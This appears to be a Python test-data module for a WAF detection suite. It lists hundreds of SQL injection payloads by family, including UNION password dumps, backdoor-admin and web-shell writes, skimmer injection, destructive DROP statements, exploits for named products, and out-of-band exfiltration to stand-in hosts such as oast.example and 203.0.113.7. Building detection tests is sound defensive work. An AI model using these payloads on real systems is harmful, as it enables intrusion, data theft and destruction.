"""Blind set "hundredeightyseventh": SQL and NoSQL injection as incident responders record it in their case files,
with benign requests in which an incident-response team and its SREs use the same words innocently.

The angle: incident case files, recalled from memory. The payloads are written the way they turn up in a breach
and are copied into the responders' notes afterwards: the attacker's first probes and the final exploit, the
mass-exploitation waves against a popular product (WordPress plugins, Joomla com_fields, Drupal's login form,
Magento's admin, Zabbix, vBulletin, FortiWeb, FortiClient EMS, Ivanti EPM, an ASP shop hit by the Asprox worm),
lines lifted from access logs and WAF alerts (URL-encoded once or twice, mixed case, with the junk parameters and
cache-busters attackers add), second-stage droppers run through the database, persistence (new admin rows,
logins, jobs, triggers, a general-log web shell) and exfiltration one-liners, and the variants the attacker
switched to after the first attempt was blocked. Each group of payloads carries a comment naming its family, the
incident context and its target (MySQL/MariaDB, PostgreSQL, SQL Server, Oracle, SQLite, MongoDB, the product).
A string that is itself URL-encoded is sent as a value (so it arrives encoded once more, as a double-decoding
application sees it); a whole query string or form body copied from a log goes as it was logged.

Families (category sqli; one sub-family per detection title):
  libinjection-sqli, sql-tautology-boolean, sql-comment-sequence, union-select, stacked-queries,
  time-based-blind (sleep/benchmark/pg_sleep/waitfor), error-based (extractvalue/updatexml/convert/cast),
  out-of-band (load_file/into outfile/xp_dirtree/utl_http/dblink), information-schema-probing,
  mysql-comment-obfuscation, function-based-probing (substring/ascii/char/concat), sql-authentication-bypass,
  nosql-injection (Mongo operators, $where), hex-char-encoding, stored-procedure-xp-cmdshell,
  having-group-order-by-probing, like-between-in-operators

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field, the URL path), once the way a WAF regression suite sends it (placements prefixed "rs-"): to
paths that are not our routes (/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) under
arbitrary parameter names (foo, var, x, test, id, arg1), as a query string, form body, JSON body, XML body, a raw
form-typed body, or in User-Agent, Referer, X-Test-Header, X-Forwarded-For or a cookie. Query strings and form
bodies copied from access logs go as raw `name=value` strings exactly as logged (query / rs-query, form /
rs-raw-body); whole MongoDB documents go as the JSON body; an Authorization-borne exploit goes in that header.
Payloads with control characters never go into headers, cookies or the path.

Authorship and independence: written for this repository from general knowledge of each attack family, incident
write-ups as remembered, and the detection titles alone; no WAF rule, engine source, ruleset regression test or
public payload list was read. Measured once on unchanged code; deterministic (no clock, no randomness).
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

from .blind_placements import BlindSet
from .records import print_records

NAME = "hundredeightyseventh"

# An entry is a payload string, or (payload, real placement, rs placement) when it only works in one kind of place.
Entry = str | tuple[str, str, str]
JB = ("json-body", "rs-json-body")   # a whole JSON document
KV = ("form", "rs-raw-body")   # a form body copied from a WAF alert, as it was logged
Q = ("query", "rs-query")   # a query string copied from an access log, as it was logged
AUTH_HDR = ("header:Authorization", "rs-header:Authorization")

# ----------------------------------------------------------------------------------------------------------------
# libinjection-sqli: the first probes of a breach, the short token streams a scanner sends to see what breaks
LIBINJECTION: list[Entry] = [
    # MySQL behind a PHP shop, first hour of the incident: sqlmap's boolean pair on the product id
    "1 AND 8421=8421",
    "1 AND 8421=8422",
    "1') AND 5623=5623 AND ('xYzq'='xYzq",
    "1)) AND 3962=3962 AND ((7126=7126",
    "1' AND 4773=4773-- kBfg",
    "-5832' OR 4411=4411#",
    '1" AND 6032=6032 AND "Ukpa"="Ukpa',
    # MySQL, the search box wraps input in LIKE '%...%': the probe closes the wildcard too
    "1%' AND 2847=2847 AND '%'='",
    # sqlmap's heuristic break string, the first line in the access log of most case files (any SQL database)
    "1)'.\"(,(.",
    "1'\"",
    # WAF alert, mixed case after the lowercase probe was blocked (MySQL, MariaDB)
    "1' aNd 1=1-- -",
    "1' oR '1'='1",
    "1' AnD '8'='8",
    # numeric sink in a reporting API (PostgreSQL): no quote at all
    "10 AND 1=1",
    "10-0",
    "10 OR 2>1",
    "0 OR 1",
    # SQL Server ASP shop, classic first probe copied from the IIS log
    "1' and 'x'='x",
    "1 and user>0",
    # Oracle ERP portal: the attacker tested concatenation before anything else
    "x'||'",
    "1' AND 'a'||'b'='ab",
    # SQLite-backed IoT admin page
    "1' AND 1=1 AND ''='",
    # the attacker's second try after a 403: tab and newline for the spaces (MySQL lexer accepts both)
    "1'\tAND\t1=1\t-- -",
    "1'\nOR\n1=1\n#",
    # a once-encoded probe from a WAF alert, sent as a value (the app decodes twice)
    "1%27%20AND%201%3D1--%20-",
    "1%22%20OR%20%221%22%3D%221",
    # access-log lines with the scanner's cache-buster and junk tracking parameters (MySQL product page)
    ("id=1%27%20AND%203517%3D3517%20AND%20%27AbCd%27%3D%27AbCd&_=1718893845123", *Q),
    ("cat=5'+aNd+'1'='1&utm_source=google&cb=8f3a1c", *Q),
]

# sql-tautology/boolean: the always-true condition the attacker used to dump a whole table in one request
TAUTOLOGY: list[Entry] = [
    # MySQL e-commerce incident: the order-tracking page listed every customer's order
    "' or '1'='1",
    "' OR 'x'='x",
    "1 or 1=1",
    "' or 1=1 or ''='",
    "x' OR 1=1 OR 'x'='y",
    "-1' OR 3*2*1=6 AND 000209=000209 --",
    '-1" OR 2+209-209-1=0+0+0+1 --',
    "-1 OR 3*2<(0+5+209-209) --",
    "1' or 0=0 #",
    "' or 0=0 --",
    "' || 1=1 #",
    "' or not false-- -",
    "1 or true",
    # PostgreSQL SaaS tenant leak: the tenant filter turned into a true boolean
    "' OR 't'::bool--",
    "' OR 1=1::int--",
    "' OR current_user IS NOT NULL--",
    # SQL Server intranet search
    "' OR 1=1 AND 'b'='b",
    "' OR 'a'='a'--",
    # Oracle HR portal
    "' OR 1=1 OR 'z'='",
    "' OR 2>1 OR 'q'='",
    # SQLite mobile backend
    "' OR 1 IS 1--",
    # boolean blind oracle from the same breach: true page vs false page
    "1' AND 1=1 AND 'a'='a",
    "1' AND 1=2 AND 'a'='a",
    "1 AND (SELECT COUNT(*) FROM users)>0",
    # once-encoded and double-encoded copies from the WAF alerts
    "%27%20OR%20%271%27%3D%271",
    "1%20or%201%3D1",
    ("q=x'+OR+'1'='1&sort=new&_=1718901234", *Q),
    ("id=1%2527%2520or%2520%25271%2527%253D%25271", *Q),
]

# sql-comment-sequence: comments that cut off the rest of the statement or bridge two fields
COMMENT: list[Entry] = [
    # MySQL, the login of a hosting panel: every comment style seen across the case
    "admin'-- -",
    "admin')-- -",
    "admin'))#",
    "1' or '1'='1'-- -",
    "1 or 1=1--",
    "x' OR 1=1;--",
    "1';--",
    "'/**/OR/**/1/**/--/**/",
    "1'--+-",
    "' or 1=1/*",
    "1' or 1=1 limit 1 -- -+",
    "') or true-- -",
    "') or ('a'='a' --",
    # SQL Server: the rest of the WHERE clause dropped with -- (no # in T-SQL)
    "'; --",
    "1 or 1=1;--",
    "administrator'--",
    # Oracle: -- only
    "' or 'a'='a'--",
    "1 or 1=1 --",
    # PostgreSQL
    "' or 1=1;--",
    "'/*",
    # SQLite
    "1' or 1=1/*",
    # once-encoded (the app decodes twice) and raw log copies
    "1%27--%20-",
    "admin%27%23",
    ("id=1%2527%2520or%25201%253D1%2523", *Q),
    ("user=admin'%00&pass=x", *KV),
    # two-field login: the comment opens in the username and closes in the password (MySQL)
    ("username=admin'/*&password=*/ or 1=1-- -", *KV),
    ("login=x'/*&pwd=*/OR/**/'1'='1'#", *KV),
    "admin' #\n",
]

# union-select: the final exploit that dumped the users table
UNION: list[Entry] = [
    # MySQL, the first column-count success and the dump that followed
    "-1 UNION SELECT 1,2,3-- -",
    "1' UNION ALL SELECT NULL,NULL,NULL-- -",
    "' UNION SELECT username,password FROM users-- -",
    "-1' UniOn SeLeCt 1,concat(user_login,0x3a,user_pass),3 FrOm wp_users-- -",
    "999999.9' union all select 0x31303235343830303536,0x31303235343830303536-- -",
    "1 UNION SELECT @@version,user(),database()-- -",
    "-1 union distinctrow select 1,2,3-- -",
    "1 union(select 1,2,3)-- -",
    "-7 UNION SELECT 1,2,3,4,5,6,7,8,9,10,11,12,13,14,15-- -",
    "') UNION SELECT NULL,NULL,NULL,NULL#",
    # OpenCart shop, the customer table that ended up on a paste site
    "0 union select 1,(select group_concat(email,0x3a,password) from oc_customer),3,4-- -",
    # vBulletin 4 forumrunner wave (MySQL)
    ("d=1&cmd=get_spam_data&postids=-1)union select 1,2,3,(select concat(username,0x3a,password,0x3a,salt) "
     "from user where userid=1),5,6,7,8,9,10-- -", *Q),
    # PostgreSQL
    "' UNION SELECT NULL,version()--",
    "' UNION SELECT usename,passwd FROM pg_shadow--",
    "' UNION ALL SELECT email,password_hash FROM accounts--",
    # SQL Server
    "' UNION SELECT @@version,NULL--",
    "' UNION SELECT name,password_hash FROM sys.sql_logins--",
    "-1 UNION ALL SELECT TOP 1 login,pwd FROM members--",
    # Oracle
    "' UNION SELECT banner,NULL FROM v$version--",
    "' UNION SELECT name,password FROM sys.user$--",
    "' UNION SELECT username,NULL FROM dba_users WHERE rownum<50--",
    # SQLite
    "' union select sqlite_version(),null--",
    "' UNION SELECT username||':'||password,NULL FROM users--",
    # log copies: + for the spaces, cache-buster, once-encoded value
    ("id=-1+union+select+1,2,3--+-&_=1718899123", *Q),
    ("pid=-9+UNION+ALL+SELECT+1,user(),3,4--+-&ref=home&t=1718901777", *Q),
    "%2D1%20UNION%20SELECT%201%2Cuser%28%29%2C3--%20-",
    "-1%20UnIoN%20SeLeCt%20NULL%2Cversion%28%29--",
    # JSON API of the same shop (MySQL): the product filter
    ('{"filter":{"id":"-1 union select user_login,user_pass from wp_users-- -"}}', *JB),
]

# stacked-queries: persistence and clean-up statements run after the injection point
STACKED: list[Entry] = [
    # MySQL: a backdoor admin in the app's users table
    "'; INSERT INTO users(username,password,role) VALUES('svc_backup','5f4dcc3b5aa765d61d8327deb882cf99','admin');--",
    "'; UPDATE users SET password='5f4dcc3b5aa765d61d8327deb882cf99' WHERE username='admin';-- -",
    "';insert into wp_users (user_login,user_pass,user_email) values ('wpsupport',md5('Sup3r!'),'a@evil.example');#",
    "1;UPDATE wp_options SET option_value='https://evil.example' WHERE option_name='siteurl';-- -",
    "'; GRANT ALL PRIVILEGES ON *.* TO 'bk'@'%' IDENTIFIED BY 'p4ss';-- -",
    # MySQL persistence: the general log turned into a PHP web shell
    "'; SET GLOBAL general_log='ON'; SET GLOBAL general_log_file='/var/www/html/l.php'; "
    "SELECT '<?php eval($_POST[1]);?>';-- -",
    # Magento skimmer incident: the footer script written through SQL (MySQL)
    "';UPDATE core_config_data SET value='<script src=//cdn-stat.example/s.js></script>' "
    "WHERE path='design/footer/absolute_footer';-- -",
    # covering tracks after exfiltration (MySQL, PostgreSQL)
    "'; TRUNCATE TABLE audit_log;-- -",
    "'; DELETE FROM access_logs WHERE ip='203.0.113.7';--",
    # destructive final step of a ransom note incident
    "1; DROP TABLE users--",
    "'; DROP DATABASE shop;-- -",
    # Drupal 7 login form wave ("Drupalgeddon"), MySQL: the expanded placeholder names carry the statement
    ("name[0;update users set name='owned' where uid=1;#]=x&name[0]=y&pass=z&form_id=user_login_block"
     "&op=Log+in", *KV),
    # Magento 1 "Shoplift" wave: a new admin through the report grid filter (MySQL)
    ("popularity[from]=0&popularity[to]=3&popularity[field_expr]=0);SET @SALT='rp';SET @PASS=CONCAT(MD5("
     "CONCAT(@SALT,'forme')),CONCAT(':',@SALT));INSERT INTO admin_user (firstname,lastname,email,username,"
     "password,created,lognum,reload_acl_flag,is_active,extra,rp_token,rp_token_created_at) VALUES "
     "('F','L','m@evil.example','forme',@PASS,NOW(),0,0,1,NULL,NULL,NOW());#", *KV),
    # PostgreSQL: a superuser for the attacker's return
    "'; CREATE USER backdoor WITH SUPERUSER PASSWORD 'Winter2024!';--",
    "1; ALTER USER postgres WITH PASSWORD 'changeme';--",
    "';SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename='app';--",
    # SQL Server: a sysadmin login
    "';exec sp_addlogin 'svc_sql','P@ssw0rd!';exec sp_addsrvrolemember 'svc_sql','sysadmin';--",
    "';EXEC('CREATE LOGIN hlp WITH PASSWORD=''Qwe123!@#''');EXEC('ALTER SERVER ROLE sysadmin ADD MEMBER hlp');--",
    "';SHUTDOWN WITH NOWAIT;--",
    "1;EXEC sp_password NULL,'NewP@ss1','sa';--",
    # Oracle: privilege escalation through an anonymous block
    "';BEGIN EXECUTE IMMEDIATE 'GRANT DBA TO scott'; END;--",
    # SQLite: a PHP file written through ATTACH (SQLite-backed PHP app)
    "'; ATTACH DATABASE '/var/www/html/x.php' AS x; CREATE TABLE x.p (d text); "
    "INSERT INTO x.p VALUES ('<?php system($_GET[\"c\"]); ?>');--",
    # MySQL: a trigger that copies every new card number into the attacker's table (skimming persistence)
    "'; CREATE TABLE IF NOT EXISTS cache_tmp (d TEXT); CREATE TRIGGER t1 AFTER INSERT ON payments FOR EACH ROW "
    "INSERT INTO cache_tmp VALUES (NEW.card_number);-- -",
    # log copies (once-encoded value; raw form body)
    "1%3B%20DROP%20TABLE%20sessions--",
    ("id=1;UPDATE+users+SET+is_admin=1+WHERE+email='x@evil.example'--&_=1718902230", *Q),
    ("q=';SELECT+pg_sleep(0);INSERT+INTO+api_keys(owner,key)+VALUES('x','k-9f2');--", *KV),
    # JSON API (PostgreSQL): stacked statement in the filter field
    ('{"sort":"id; UPDATE accounts SET role=\'owner\' WHERE email=\'x@evil.example\'--"}', *JB),
]

# time-based-blind: the sleep oracles that filled the slow-query log the night of the breach
TIME: list[Entry] = [
    # MySQL: the scanner polyglot that lit up every WordPress site in the wave
    "0'XOR(if(now()=sysdate(),sleep(15),0))XOR'Z",
    "if(now()=sysdate(),sleep(15),0)",
    "(select(0)from(select(sleep(15)))v)/*'+(select(0)from(select(sleep(15)))v)+'\"+(select(0)from(select("
    "sleep(15)))v)+\"*/",
    "1 AND (SELECT 1337 FROM (SELECT(SLEEP(5)))abcd)",
    "1') AND SLEEP(5) AND ('x'='x",
    "XOR(if(now()=sysdate(),sleep(5),0))OR'",
    "1 RLIKE SLEEP(5)",
    "1' and benchmark(10000000,sha1(1))#",
    "BENCHMARK(50000000,MD5(0x41))",
    "1' AND IF(ASCII(SUBSTRING(database(),1,1))=119,SLEEP(3),0)-- -",
    # WordPress plugin wave, copied from the access log with the cache-buster
    ("action=wpdm_search&id=1%20AND%20(SELECT%201%20FROM%20(SELECT%20SLEEP(5))x)&_=1718893845999", *Q),
    ("s=x'%2B(select*from(select(sleep(20)))a)%2B'&cb=1a2b3c", *Q),
    # PostgreSQL
    "-1; select pg_sleep(15); --",
    "1';select pg_sleep(15)--",
    "1 AND 1=(SELECT 1 FROM PG_SLEEP(5))",
    "' || pg_sleep(10) || '",
    "1 AND (SELECT CASE WHEN (current_user='postgres') THEN pg_sleep(5) ELSE pg_sleep(0) END) IS NULL",
    # SQL Server
    "1 waitfor delay '0:0:15' --",
    "';WAITFOR DELAY '0:0:5'--",
    "1);WAITFOR DELAY '0:0:5'--",
    "'; IF (SELECT COUNT(*) FROM sysusers WHERE name='dbo')>0 WAITFOR DELAY '0:0:5'--",
    # Oracle
    "1'||DBMS_PIPE.RECEIVE_MESSAGE(CHR(98)||CHR(98)||CHR(98),15)||'",
    "1 AND 4242=DBMS_PIPE.RECEIVE_MESSAGE(CHR(65),5)",
    # SQLite
    "1 AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(500000000/2))))",
    # once-encoded copies from the WAF alerts (the app decodes twice)
    "0%27XOR%28if%28now%28%29%3Dsysdate%28%29%2Csleep%2815%29%2C0%29%29XOR%27Z",
    "1%27%20AND%20SLEEP%285%29--%20-",
    "1%3BWAITFOR%20DELAY%20%270%3A0%3A5%27--",
    # the blocked-then-retried variant: mixed case and a newline (MySQL)
    "1'\nAnD\nsLeEp(5)#",
]

# error-based: the error pages that printed the database user and the password hashes
ERROR: list[Entry] = [
    # MySQL 5.x/8: XML functions
    "1 AND EXTRACTVALUE(1,CONCAT(0x5c,(SELECT version())))",
    "1' AND updatexml(1,concat(0x7e,(select user()),0x7e),1)-- -",
    "extractvalue(rand(),concat(0x3a,(select concat(user_login,0x3a,user_pass) from wp_users limit 0,1)))",
    "updatexml(null,concat(0x0a,(select table_name from information_schema.tables where "
    "table_schema=database() limit 0,1)),null)",
    # MySQL: floor(rand()) duplicate key, exp() overflow, gtid, json, geometry
    "' AND (SELECT 1 FROM(SELECT COUNT(*),CONCAT((SELECT database()),0x3a,FLOOR(RAND(0)*2))x FROM "
    "information_schema.tables GROUP BY x)a)-- -",
    "1 AND EXP(~(SELECT * FROM (SELECT user())x))",
    "1 AND GTID_SUBSET(CONCAT(0x7e,(SELECT @@version)),1)",
    "1' AND JSON_KEYS((SELECT CONVERT((SELECT CONCAT(0x7e,user())) USING utf8)))-- -",
    "1 and (select * from (select name_const(version(),1),name_const(version(),1))a)",
    "1 and polygon((select*from(select*from(select@@version)f)x))",
    "1 AND ST_LatFromGeoHash((SELECT version()))",
    # Joomla 3.7 com_fields wave (MySQL), access-log copy
    ("option=com_fields&view=fields&layout=modal&list[fullordering]=updatexml(0x23,concat(1,user()),1)", *Q),
    # Zabbix jsrpc.php wave (MySQL): the session table read through the error message
    ("type=9&method=screen.get&timestamp=1718900000&mode=2&screenid=&groupid=&hostid=0&pageFile=history.php"
     "&profileIdx=web.item.graph&profileIdx2=(select 1 from (select count(*),concat((select sessionid from "
     "sessions where userid=1 and status=0 limit 1),floor(rand(0)*2))x from information_schema.tables group by "
     "x)a)&updateProfile=true&period=3600&stime=20240601000000&resourcetype=17", *Q),
    # SQL Server
    "1 AND 1=CONVERT(int,(SELECT @@version))",
    "' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects WHERE xtype='U'))--",
    "1' AND 1=CAST(DB_NAME() AS int)--",
    "' + CONVERT(int,@@servername) + '",
    "1 AND 1=(SELECT TOP 1 CAST(password AS int) FROM users)",
    # PostgreSQL
    "1 AND 1=CAST((SELECT version()) AS int)",
    "' AND 1=CAST((SELECT current_user) AS numeric)--",
    "' and 1=cast((select string_agg(usename,',') from pg_user) as int)--",
    "1 AND 7=CAST(chr(126)||(SELECT passwd FROM pg_shadow LIMIT 1) AS int)",
    # Oracle
    "1 AND 1=CTXSYS.DRITHSX.SN(1,(SELECT user FROM dual))",
    "' AND 1=UTL_INADDR.GET_HOST_NAME((SELECT banner FROM v$version WHERE rownum=1))--",
    "1 AND 1=(SELECT UPPER(XMLType(CHR(60)||CHR(58)||(SELECT user FROM dual)||CHR(62))) FROM dual)",
    # once-encoded WAF alert copy (MySQL), and the mixed-case retry
    "1%20AND%20extractvalue(1%2Cconcat(0x7e%2C(select%20password%20from%20users%20limit%201)))",
    "1' AnD ExTrAcTvAlUe(1,CoNcAt(0x7e,(SeLeCt @@datadir)))-- -",
]

# out-of-band: files read and written, and data pushed to the attacker's DNS and HTTP listeners
OOB: list[Entry] = [
    # MySQL: reading files, then writing the web shell that became the persistence
    "' UNION SELECT LOAD_FILE('/etc/passwd'),2-- -",
    "' UNION SELECT 1,LOAD_FILE('/var/www/html/wp-config.php')-- -",
    "' UNION SELECT '<?php system($_GET[c]); ?>',2 INTO OUTFILE '/var/www/html/s.php'-- -",
    "1 LIMIT 1 INTO OUTFILE '/var/www/html/x.php' LINES TERMINATED BY "
    "0x3c3f7068702073797374656d28245f4745545b2763275d293b203f3e",
    "' UNION SELECT group_concat(user_login,0x3a,user_pass),2 FROM wp_users INTO OUTFILE "
    "'/var/www/html/wp-content/uploads/u.txt'-- -",
    "' UNION SELECT 0x3c3f706870206576616c28245f504f53545b315d293b3f3e,2 INTO DUMPFILE '/var/www/html/up.php'-- -",
    # MySQL on Windows: DNS exfiltration through a UNC path
    "' AND LOAD_FILE(CONCAT('\\\\\\\\',(SELECT password FROM mysql.user LIMIT 1),'.x7k2.oast.example\\\\a'))-- -",
    "1 AND (SELECT LOAD_FILE(CONCAT(0x5c5c5c5c,(SELECT HEX(user())),0x2e6f6173742e6578616d706c655c5c61)))",
    # SQL Server: SMB/DNS callbacks (hash capture and exfiltration)
    "'; EXEC master..xp_dirtree '\\\\x7k2.oast.example\\a';--",
    "'; declare @q varchar(99);set @q='\\\\'+(select top 1 password from users)+'.oast.example\\x'; "
    "exec master.dbo.xp_fileexist @q;--",
    "';EXEC master..xp_subdirs '\\\\203.0.113.7\\share';--",
    "';SELECT * FROM OPENROWSET('SQLOLEDB','server=203.0.113.7;uid=sa;pwd=x','select 1')--",
    "';INSERT INTO OPENROWSET('SQLOLEDB','server=203.0.113.7,443;uid=u;pwd=p','select * from loot') "
    "SELECT * FROM customers--",
    # Oracle: UTL_HTTP / UTL_INADDR / XXE through XMLType
    "' UNION SELECT UTL_HTTP.REQUEST('http://oast.example/'||(SELECT user FROM dual)),NULL FROM dual--",
    "' || UTL_INADDR.GET_HOST_ADDRESS((SELECT password FROM dba_users WHERE rownum=1)||'.oast.example') || '",
    "' UNION SELECT EXTRACTVALUE(xmltype('<?xml version=\"1.0\"?><!DOCTYPE root [ <!ENTITY % r SYSTEM "
    "\"http://'||(SELECT user FROM dual)||'.oast.example/\"> %r;]>'),'/l'),NULL FROM dual--",
    "' AND 1=UTL_HTTP.REQUEST('http://203.0.113.7:8080/'||(SELECT banner FROM v$version WHERE rownum=1))--",
    # PostgreSQL: files and dblink
    "' UNION SELECT pg_read_file('/etc/passwd',0,1000000),NULL--",
    "';COPY (SELECT usename||':'||passwd FROM pg_shadow) TO '/tmp/.x.csv';--",
    "'; SELECT dblink_connect('host='||(SELECT current_user)||'.oast.example user=a dbname=b password=c');--",
    "';SELECT * FROM dblink('host=203.0.113.7 user=x password=y dbname=z','SELECT 1') AS t(a int);--",
    "' UNION SELECT CAST(lo_import('/etc/shadow') AS text),NULL--",
    # SQLite: the database file copied out to the web root (SQLite-backed PHP admin)
    "';VACUUM INTO '/var/www/html/static/db.bak';--",
    # once-encoded WAF alert copies, and a raw access-log line with the cache-buster
    "%27%20UNION%20SELECT%20LOAD_FILE%28%27%2Fetc%2Fshadow%27%29%2C2--%20-",
    "1%3BEXEC%20master..xp_dirtree%20%27%5C%5Cq1.oast.example%5Cx%27--",
    ("id=-1'+UNION+SELECT+1,LOAD_FILE('/root/.ssh/id_rsa'),3--+-&_=1718907771", *Q),
    # MySQL, the exfil one-liner pasted into a support ticket field
    "x' INTO OUTFILE '/tmp/dump.csv' FIELDS TERMINATED BY ','-- -",
]

# information-schema/catalog probing: enumeration of schemas, tables and columns before the dump
CATALOG: list[Entry] = [
    # MySQL
    "' UNION SELECT table_name,NULL FROM information_schema.tables WHERE table_schema=database()-- -",
    "-1 UNION SELECT schema_name,2 FROM information_schema.schemata-- -",
    "' union select group_concat(column_name),2 from information_schema.columns where table_name=0x7573657273-- -",
    "1 AND (SELECT COUNT(*) FROM information_schema.columns WHERE table_name='users')>0",
    "1 AND (SELECT LENGTH(table_name) FROM information_schema.tables WHERE table_schema=database() LIMIT 0,1)=5",
    "' UNION SELECT table_name,2 FROM information_schema.tables WHERE table_name LIKE 0x25757365727325-- -",
    "' UNION SELECT info,NULL FROM information_schema.processlist-- -",
    "' UNION SELECT group_concat(table_name),2 FROM mysql.innodb_table_stats-- -",
    "' union select table_name,2 from sys.schema_table_statistics-- -",
    "' UNION SELECT user,authentication_string FROM mysql.user-- -",
    # SQL Server
    "' UNION SELECT name,NULL FROM sys.databases--",
    "' UNION SELECT name,NULL FROM master..sysdatabases--",
    "' UNION SELECT name,NULL FROM syscolumns WHERE id=OBJECT_ID('users')--",
    "' UNION SELECT table_schema+'.'+table_name,NULL FROM information_schema.tables--",
    "'; SELECT name FROM sys.server_principals WHERE IS_SRVROLEMEMBER('sysadmin',name)=1;--",
    # PostgreSQL
    "' UNION SELECT tablename,NULL FROM pg_tables WHERE schemaname='public'--",
    "' union select string_agg(column_name,','),null from information_schema.columns where table_name='accounts'--",
    "' UNION SELECT relname,NULL FROM pg_class WHERE relkind='r'--",
    "' UNION SELECT datname,NULL FROM pg_database--",
    "' UNION SELECT rolname,NULL FROM pg_roles WHERE rolsuper--",
    # Oracle
    "' UNION SELECT table_name,NULL FROM all_tables--",
    "' UNION SELECT owner||'.'||table_name,NULL FROM all_tab_columns WHERE column_name LIKE '%PASS%'--",
    "' UNION SELECT username,NULL FROM all_users--",
    # SQLite
    "' UNION SELECT sql,NULL FROM sqlite_master--",
    "' UNION SELECT name,NULL FROM sqlite_master WHERE type='table'--",
    "' union select group_concat(tbl_name),2 from sqlite_schema--",
    # once-encoded WAF alert copy and a raw access-log line (MySQL)
    "-1%27%20UNION%20SELECT%201%2Ctable_name%2C3%20FROM%20information_schema.tables--%20-",
    ("id=-1+UNION+SELECT+1,column_name,3+FROM+information_schema.columns+WHERE+table_name='admin'--+-"
     "&_=1718903310", *Q),
]

# mysql-comment-obfuscation: the versioned-comment variants switched to after the plain UNION was blocked
MYCOMMENT: list[Entry] = [
    # MySQL/MariaDB: /*!...*/ runs its content, /*!NNNNN...*/ on servers at or above that version
    "1 /*!50000UNION*/ /*!50000SELECT*/ 1,2,3-- -",
    "-1'/*!UnIoN*//*!SeLeCt*/1,user(),3-- -",
    "1'/*!12345union*//*!12345select*/1,2,3#",
    "1 /*!00000AND*/ 1=1",
    "' /*!or*/ 1=1-- -",
    "1'/**/UNION/**/SELECT/**/user(),2#",
    "0/*!12345UNION SELECT*/1,2,3",
    "1 /*!40000 AND SLEEP(5)*/",
    "1'/*foo*/OR/*bar*/'1'='1",
    "-1 union/**/distinct/**/select 1,2,3",
    "1 and/*!*/1=1",
    "1'||/*!sleep*/(5)#",
    "1 /*!UNION*/ALL/*!SELECT*/ 1,2,3",
    "'/*!and*/ updatexml(1,concat(0x7e,user()),1)#",
    "1'-/*!50000extractvalue*/(1,concat(0x7e,version()))-'",
    "1 /*!50000union*//*!50000all*//*!50000select*/1,2,3",
    "1'/*!50000or*/'1'='1",
    "1'/*!50000AnD*/(/*!50000SeLeCt*/1/*!50000FrOm*/(/*!50000SeLeCt*/sleep(5))a)-- -",
    "-1/**//*!UNION*//**//*!SELECT*//**/concat(user_login,0x3a,user_pass)/**/from/**/wp_users#",
    "'/*!50000union*/(/*!50000select*/table_name/*!50000from*/information_schema.tables)#",
    # comments with junk inside, as a WAF-evasion tool writes them
    ("id=1/*!50000%0aUnIoN*//*!50000%0aSeLeCt*/1,2,3", *Q),
    "1/*xyz*/UNION/*xyz*/SELECT/*xyz*/1,2#",
    "1 #foo\nUNION #bar\nSELECT 1,2#",
    "1 -- x\nUNION -- x\nSELECT 1,2#",
    # raw access-log copies where the encoding is part of the bypass (the app decodes once)
    ("id=-1/*!%55NiOn*/%20/*!%53eLEct*/%201,2,3--+-", *Q),
    ("id=-1+/*!50000union*/+/*!50000select*/+1,2,3--+&_=1718905112", *Q),
    ("cat=1'/*!50000%55nIoN*/%20/*!50000%53eLeCt*/%201,2--%20-", *Q),
    "1%20/*!50000UnIoN*/%20/*!50000SeLeCt*/%201%2C2--%20-",
]

# function-based-probing: the character-by-character extraction that took most of the attacker's night
FUNCTION: list[Entry] = [
    # MySQL
    "1' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>79-- -",
    "1 AND ORD(MID((SELECT IFNULL(CAST(user_pass AS NCHAR),0x20) FROM wp_users ORDER BY ID LIMIT 0,1),1,1))>64",
    "' AND (SELECT SUBSTRING(@@version,1,1))='8'-- -",
    "1' AND LENGTH(database())=8-- -",
    "1 AND MID(version(),1,1)=5",
    "' AND LEFT(database(),1)='w'-- -",
    "' AND RIGHT(user(),9)='localhost'-- -",
    "' AND HEX(SUBSTRING(user(),1,1))=72-- -",
    "' AND INSTR(version(),'MariaDB')>0-- -",
    "' AND LOCATE('root',user())=1-- -",
    "' AND GREATEST(ASCII(SUBSTR(user(),1,1)),1)=114-- -",
    "1 AND CONV(HEX(SUBSTR(user(),1,1)),16,10)=114",
    "' AND SOUNDEX(database())=SOUNDEX('shop')-- -",
    "' UNION SELECT CONCAT_WS(0x3a,user,authentication_string),2 FROM mysql.user-- -",
    "1 AND (SELECT ASCII(SUBSTRING(table_name,1,1)) FROM information_schema.tables WHERE "
    "table_schema=database() LIMIT 1)=117",
    # PostgreSQL / Oracle
    "' AND SUBSTR((SELECT password FROM users WHERE username='administrator'),1,1)='a'--",
    "1 AND CHR(65)||CHR(66)='AB'",
    "' AND ASCII(SUBSTR((SELECT user FROM dual),1,1))=83--",
    "' AND (SELECT DECODE(SUBSTR(user,1,1),'S',1,0) FROM dual)=1--",
    "' AND LENGTH(current_database())>3--",
    # SQL Server
    "1 AND UNICODE(SUBSTRING((SELECT TOP 1 name FROM sysobjects),1,1))>64",
    "1 AND ASCII(LOWER(SUBSTRING((SELECT TOP 1 name FROM sys.tables),1,1)))>109--",
    "' AND SUBSTRING(SYSTEM_USER,1,2)='sa'--",
    "' AND LEN(DB_NAME())=6--",
    # SQLite
    "' AND (SELECT unicode(substr(sql,1,1)) FROM sqlite_master LIMIT 1)>64--",
    # once-encoded WAF alert copies and a raw access-log line
    "1%20AND%20ASCII%28SUBSTRING%28user%28%29%2C1%2C1%29%29%3E100",
    ("id=1+AND+ORD(MID((SELECT+IFNULL(CAST(username+AS+NCHAR),0x20)+FROM+admin+LIMIT+0,1),2,1))>96"
     "&_=1718906640", *Q),
    "1 AnD AsCiI(SuBsTrInG(UsEr(),1,1))=114",
]

# sql-authentication-bypass: the admin-panel logins that opened the door
AUTH: list[Entry] = [
    # PHP + MySQL admin panels: raw form bodies copied from the WAF alerts
    ("username=admin'--&password=x", *KV),
    ("log=admin'#&pwd=anything&wp-submit=Log+In", *KV),
    ("email=' or 1=1 limit 1-- -&password=x", *KV),
    ("user=' or ''='&pass=' or ''='", *KV),
